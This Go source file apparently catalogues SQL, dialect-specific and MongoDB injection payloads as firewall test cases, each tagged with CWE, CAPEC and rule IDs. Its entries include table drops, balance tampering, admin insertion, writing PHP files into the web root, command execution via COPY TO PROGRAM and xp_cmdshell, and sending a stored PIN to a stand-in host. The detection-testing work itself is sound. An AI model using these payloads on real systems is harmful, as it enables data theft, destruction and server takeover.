package attack

// sqlInjection is what works on most databases.
func sqlInjection() group {
	return group{"sql", "SQL injection", "CWE-89", []entry{
		{"tautology", "Makes a condition true for every row", "CAPEC-66; CRS 942", query("q", "zzz' OR 'tw'='tw")},
		{"tautology-numeric", "The same where a number stands without quotes", "CAPEC-66; CRS 942", query("id", "7 OR 3=3 -- ")},
		{"comment-login", "Comments the password's comparison out", "CAPEC-66; CRS 942", form("account", "nobody' OR 1=1 -- ", "password", "x")},
		{"union", "Appends rows of another table", "CAPEC-66; CRS 942", query("q", "none' UNION SELECT holder, pin FROM vault_cards -- ")},
		{"union-nulls", "Counts the columns of a query", "CAPEC-66; CRS 942", query("id", "-4 UNION ALL SELECT NULL,NULL,NULL,NULL")},
		{"union-inline-comments", "Hides the blanks in comments", "CAPEC-66; CRS 942", query("id", "9/**/UNION/**/SELECT/**/pin/**/FROM/**/vault_cards")},
		{"union-mixed-case", "Hides the words in odd capitals", "CAPEC-66; CRS 942", query("id", "9 uNiOn aLl sElEcT pin fRoM vault_cards")},
		{"stacked-drop", "Ends the query and removes a table", "CAPEC-66; CRS 942", query("id", "5; DROP TABLE vault_cards; -- ")},
		{"stacked-update", "Ends the query and raises a balance", "CAPEC-66; CRS 942", form("amount", "5'; UPDATE vault_accounts SET balance=99999 WHERE holder='me' -- ")},
		{"stacked-insert", "Ends the query and adds an administrator", "CAPEC-66; CRS 942", form("note", "x'); INSERT INTO staff(login,admin) VALUES('tw',1); -- ")},
		{"blind-substring", "Reads a secret letter by letter", "CAPEC-7; CRS 942", query("id", "8 AND SUBSTRING((SELECT pin FROM vault_cards LIMIT 1),1,1)='4'")},
		{"blind-subquery", "Asks whether a table exists", "CAPEC-7; CRS 942", query("id", "8' AND EXISTS(SELECT * FROM vault_cards) AND 'k'='k")},
		{"schema", "Lists the tables that there are", "CAPEC-54; CRS 942", query("q", "x' UNION SELECT table_name,2 FROM information_schema.tables -- ")},
		{"having", "Finds column names through an error", "CAPEC-54; CRS 942", query("id", "6' HAVING 1=1 -- ")},
		{"order-by-case", "Sorts by a secret", "CAPEC-7; CRS 942", query("sort", "(CASE WHEN (SELECT 1 FROM vault_cards WHERE pin LIKE '4%')=1 THEN title ELSE day END)")},
		{"json-body", "In a string of a JSON document", "CAPEC-66; CRS 942", document(`{"filter":{"owner":"nobody' OR 'tw'='tw' -- "}}`)},
		{"json-key", "In the name of a JSON member", "CAPEC-66; CRS 942", document(`{"x' UNION SELECT pin,2 FROM vault_cards -- ":1}`)},
		{"cookie", "In a cookie that the application looks up", "CAPEC-66; CRS 942", get("/").with("Cookie", "basket=9' UNION SELECT pin,2 FROM vault_cards -- ")},
		{"double-encoded", "Encoded twice, for a server that decodes twice", "CAPEC-120; CRS 942", get("/search?id=9%2520UNION%2520SELECT%2520pin%2520FROM%2520vault_cards")},
	}}
}

// sqlDialects is what only one database understands.
func sqlDialects() group {
	return group{"sql-dialect", "SQL injection in one dialect", "CWE-89", []entry{
		{"mysql-sleep", "MySQL: tells yes from no by the clock", "CAPEC-7; CRS 942", query("id", "3' AND SLEEP(9) AND 'm'='m")},
		{"mysql-benchmark", "MySQL: the same without SLEEP", "CAPEC-7; CRS 942", query("id", "3 AND BENCHMARK(8000000,SHA1('tw'))")},
		{"mysql-version-comment", "MySQL: a comment that is executed", "CAPEC-66; CRS 942", query("id", "3 /*!50000UNION*/ /*!50000SELECT*/ pin FROM vault_cards")},
		{"mysql-outfile", "MySQL: writes a page into the server's folder", "CAPEC-66; CRS 942", query("id", "3' UNION SELECT '<?php ?>' INTO OUTFILE '/srv/www/tw.php' -- ")},
		{"mysql-load-file", "MySQL: reads a file of the server", "CAPEC-66; CRS 942", query("id", "3 UNION SELECT LOAD_FILE('/etc/hostname')")},
		{"mysql-error", "MySQL: carries a secret out in an error", "CAPEC-54; CRS 942", query("id", "3 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT pin FROM vault_cards LIMIT 1)))")},
		{"postgres-sleep", "PostgreSQL: tells yes from no by the clock", "CAPEC-7; CRS 942", query("id", "3'; SELECT pg_sleep(9) -- ")},
		{"postgres-copy", "PostgreSQL: runs a program", "CAPEC-66; CRS 942, 932", query("id", "3'; COPY vault_cards TO PROGRAM 'curl http://tw.example.invalid/' -- ")},
		{"postgres-cast", "PostgreSQL: carries a secret out in a cast's error", "CAPEC-54; CRS 942", query("id", "3' AND 1=CAST((SELECT version()) AS INT) -- ")},
		{"mssql-waitfor", "SQL Server: tells yes from no by the clock", "CAPEC-7; CRS 942", query("id", "3'; WAITFOR DELAY '0:0:9' -- ")},
		{"mssql-cmdshell", "SQL Server: runs a command", "CAPEC-66; CRS 942", query("id", "3'; EXEC master..xp_cmdshell 'ping tw.example.invalid' -- ")},
		{"mssql-declare", "SQL Server: builds the query from a number", "CAPEC-66; CRS 942", query("id", "3'; DECLARE @q VARCHAR(99); SET @q=CAST(0x53454c454354 AS VARCHAR(99)); EXEC(@q) -- ")},
		{"oracle-dual", "Oracle: appends a row from nowhere", "CAPEC-66; CRS 942", query("id", "3' UNION SELECT banner,NULL FROM v$version WHERE 'o'='o")},
		{"oracle-http", "Oracle: has the database fetch a page with the secret in its address", "CAPEC-66; CRS 942", query("id", "3' || UTL_HTTP.REQUEST('http://tw.example.invalid/'||(SELECT pin FROM vault_cards)) || '")},
		{"sqlite-master", "SQLite: lists the tables that there are", "CAPEC-54; CRS 942", query("id", "3' UNION SELECT sql,2 FROM sqlite_master -- ")},
		{"sqlite-attach", "SQLite: writes a file by attaching it", "CAPEC-66; CRS 942", query("id", "3'; ATTACH DATABASE '/srv/www/tw.php' AS tw; CREATE TABLE tw.p(c TEXT); -- ")},
		{"hex-string", "A string as a number, past whoever looks for quotes", "CAPEC-66; CRS 942", query("id", "3 UNION SELECT 0x7477,pin FROM vault_cards WHERE holder=0x6d65")},
	}}
}

// noSQL is the same for databases that are asked in documents.
func noSQL() group {
	return group{"nosql", "NoSQL injection", "CWE-943", []entry{
		{"not-equal-field", "MongoDB: a comparison in a field's name, that any password meets", "CAPEC-676; CRS 942290", form("account", "ada", "password[$ne]", "x")},
		{"not-equal-json", "MongoDB: the same in a JSON document", "CAPEC-676; CRS 942290", document(`{"account":"ada","password":{"$ne":""}}`)},
		{"where", "MongoDB: a condition in JavaScript", "CAPEC-676; CRS 942290", document(`{"$where":"this.pin.startsWith('4') || sleep(9000)"}`)},
		{"regex", "MongoDB: reads a secret letter by letter", "CAPEC-676; CRS 942290", query("pin[$regex]", "^4")},
		{"greater", "MongoDB: a range that is everything", "CAPEC-676; CRS 942290", query("pin[$gt]", "")},
		{"in-list", "MongoDB: any of a list of guesses", "CAPEC-676; CRS 942290", document(`{"account":{"$in":["ada","admin","root"]},"password":{"$exists":true}}`)},
	}}
}
